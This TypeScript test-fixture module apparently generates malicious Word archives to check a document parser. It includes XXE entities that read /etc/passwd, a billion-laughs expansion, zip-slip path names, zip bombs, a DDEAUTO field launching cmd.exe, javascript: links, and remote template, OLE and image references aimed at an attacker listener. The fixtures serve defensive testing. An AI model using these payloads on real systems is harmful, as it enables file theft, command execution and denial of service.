/** Hostile Word documents and archives: names that lead out of the folder, bombs, XML that reads files, references to outside. */

import { type ZipPart, zipFile } from '../zipFile.ts';
import { HARMLESS, type HostileReport, type Listener, TRIPWIRE } from './hostileReport.ts';

const MEBIBYTE = 1_048_576;
const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const DRAWING = [
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"',
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"',
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"',
  `xmlns:r="${OFFICE}"`,
].join(' ');

const types: ZipPart = {
  name: '[Content_Types].xml',
  content:
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
};
const root: ZipPart = {
  name: '_rels/.rels',
  content: `<Relationships xmlns="${RELATIONS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
};

const document = (body: string, head = ''): ZipPart => ({
  name: 'word/document.xml',
  content: `${head}<w:document ${WORD} ${DRAWING}><w:body><w:p><w:r><w:t>${HARMLESS}</w:t></w:r></w:p>${body}</w:body></w:document>`,
});

const relations = (...each: readonly (readonly [type: string, target: string])[]): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships xmlns="${RELATIONS}">${each
    .map(
      ([type, target], at) =>
        `<Relationship Id="x${at}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`,
    )
    .join('')}</Relationships>`,
});

/** A Word document of these parts beside the ones that every one has. */
function word(...parts: readonly ZipPart[]): Uint8Array {
  return zipFile([types, root, ...parts]);
}

const picture = (relation: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip ${relation}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

function outside(out: Listener): readonly (readonly [string, Uint8Array])[] {
  const link = `<w:p><w:hyperlink r:id="x0"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>`;
  const field = (code: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  return [
    ['picture-file', word(document(picture('r:link="x0"')), relations(['image', 'file:///etc/passwd']))],
    ['picture-zero', word(document(picture('r:link="x0"')), relations(['image', '/dev/zero']))],
    ['picture-path', word(document(picture('r:embed="x0"')), relations(['image', '../../../../etc/passwd']))],
    ['picture-web', word(document(picture('r:link="x0"')), relations(['image', `${out}/docx-image`]))],
    [
      'template',
      word(
        document(''),
        { ...relations(['attachedTemplate', `${out}/template`]), name: 'word/_rels/settings.xml.rels' },
        { name: 'word/settings.xml', content: `<w:settings ${WORD}/>` },
      ),
    ],
    ['frame', word(document(''), relations(['frame', `${out}/frame`]))],
    ['sub-document', word(document('<w:subDoc r:id="x0"/>'), relations(['subDocument', 'file:///etc/hostname']))],
    ['object', word(document(''), relations(['oleObject', `${out}/ole`]))],
    ['link-script', word(document(link), relations(['hyperlink', `javascript:${TRIPWIRE.replaceAll('&', '&amp;')}`]))],
    ['link-file', word(document(link), relations(['hyperlink', 'file:///etc/passwd']))],
    ['field-picture', word(document(field(`INCLUDEPICTURE "${out}/field" \\d`)))],
    ['field-text', word(document(field('INCLUDETEXT "/etc/passwd"')))],
    ['field-dde', word(document(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))],
    ['macro', word(document(''), { name: 'word/vbaProject.bin', content: 'x' })],
    [
      'html-chunk',
      word(document('<w:altChunk r:id="x0"/>'), { name: 'word/chunk.html', content: `<script>${TRIPWIRE}</script>` }),
    ],
    [
      'text-as-markup',
      word(
        document(`<w:p><w:r><w:t>&lt;script&gt;${TRIPWIRE.replaceAll('&', '&amp;')}&lt;/script&gt;</w:t></w:r></w:p>`),
      ),
    ],
  ];
}

const names = [
  '../../evil.txt',
  'word/../../evil.txt',
  '..\\..\\evil.txt',
  'word\\..\\..\\evil.txt',
  '/etc/evil.txt',
  'C:\\evil.txt',
  '\\\\host\\share\\evil.txt',
] as const;

const oddNames = [
  'word/a\0b.xml',
  'CON',
  'word/x. . .',
  '__proto__',
  'word/document.xml/',
  `${'a/'.repeat(500)}x.xml`,
] as const;

/** XML that declares, nests or encodes what no report does. */
const xml: readonly (readonly [string, string, string | Buffer, readonly string[]])[] = [
  ['entity-file', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;', ['unsupported']],
  ['entity-web', '<!DOCTYPE x SYSTEM "http://evil.test/x.dtd">', '', ['unsupported']],
  ['entity-parameter', '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', '', ['unsupported']],
  [
    'laughs',
    `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at} "${`&a${at - 1 < 0 ? '' : at - 1};`.repeat(10)}">`).join('')}]>`,
    '&a8;',
    ['unsupported'],
  ],
  ['entity-unknown', '', '<w:p><w:r><w:t>&nbsp;&xxe;</w:t></w:r></w:p>', ['corrupt', 'read']],
  [
    'include',
    '',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ['read'],
  ],
  ['deep', '', '<w:p>'.repeat(20_000), ['limit', 'corrupt']],
  [
    'attributes',
    '',
    `<w:p ${Array.from({ length: 50_000 }, (_, at) => `a${at}="x"`).join(' ')}/>`,
    ['read', 'limit', 'corrupt'],
  ],
  ['unclosed', '', '<w:p><w:r>', ['corrupt', 'read']],
  ['instruction', '<?php system("id") ?>', '', ['read', 'corrupt']],
];

/** Archives that grow when they are unpacked, or lie about it. */
const bombs: readonly (readonly [string, () => Uint8Array, readonly string[]])[] = [
  ['flat', () => word(document(''), { name: 'word/media/x.bin', content: Buffer.alloc(65 * MEBIBYTE) }), ['limit']],
  ['ratio', () => word(document(''), { name: 'word/media/x.bin', content: Buffer.alloc(20 * MEBIBYTE) }), ['limit']],
  [
    'many-large',
    () =>
      word(
        document(''),
        ...Array.from({ length: 5 }, (_, at) => ({ name: `word/${at}.bin`, content: Buffer.alloc(60 * MEBIBYTE) })),
      ),
    ['limit'],
  ],
  ['lying-small', () => word({ ...document('<w:p/>'.repeat(100_000)), declaredSize: 1_000 }), ['corrupt']],
  ['lying-large', () => word({ ...document(''), declaredSize: 900 * MEBIBYTE }), ['limit', 'corrupt']],
  ['nested', () => word(document(''), { name: 'word/x.zip', content: Buffer.from(word(document(''))) }), ['read']],
  [
    'many-parts',
    () => word(document(''), ...Array.from({ length: 10_001 }, (_, at) => ({ name: `x/${at}`, content: '' }))),
    ['limit'],
  ],
  [
    'same-name',
    () => word(document(''), document('<w:p><w:r><w:t>second</w:t></w:r></w:p>')),
    ['read', 'corrupt', 'unsupported'],
  ],
  ['locked', () => word({ ...document(''), encrypted: true }), ['password']],
  ['no-document', () => zipFile([types, root]), ['corrupt', 'unsupported']],
  ['empty-document', () => word({ name: 'word/document.xml', content: '' }), ['corrupt', 'unsupported']],
];

/** All of them; `out` is where the attacker listens. */
export function hostileArchives(out: Listener): HostileReport[] {
  const report = (group: string, name: string, bytes: HostileReport['bytes'], verdict: HostileReport['verdict']) => ({
    group,
    name: `${name}.docx`,
    bytes,
    verdict,
  });
  return [
    ...outside(out).map(([name, bytes]) =>
      report('Word documents that refer to outside', `outside-${name}`, () => bytes, 'read'),
    ),
    ...names.map((part, at) =>
      report('names of parts', `slip-${at}`, () => word(document(''), { name: part, content: 'x' }), [
        'unsupported',
        'corrupt',
      ]),
    ),
    ...oddNames.map((part, at) =>
      report('names of parts', `odd-${at}`, () => word(document(''), { name: part, content: 'x' }), [
        'read',
        'unsupported',
        'corrupt',
      ]),
    ),
    ...xml.map(([name, head, body, verdict]) =>
      report('XML', `xml-${name}`, () => word(document(String(body), head)), verdict),
    ),
    report(
      'XML',
      'xml-utf-16',
      () => word({ name: 'word/document.xml', content: Buffer.from(`\uFEFF${document('').content}`, 'utf16le') }),
      ['read', 'corrupt', 'unsupported'],
    ),
    report('XML', 'xml-utf-7', () => word(document('', '<?xml version="1.0" encoding="UTF-7"?>')), [
      'read',
      'corrupt',
      'unsupported',
    ]),
    ...bombs.map(([name, bytes, verdict]) => report('bombs', `bomb-${name}`, bytes, verdict)),
  ];
}
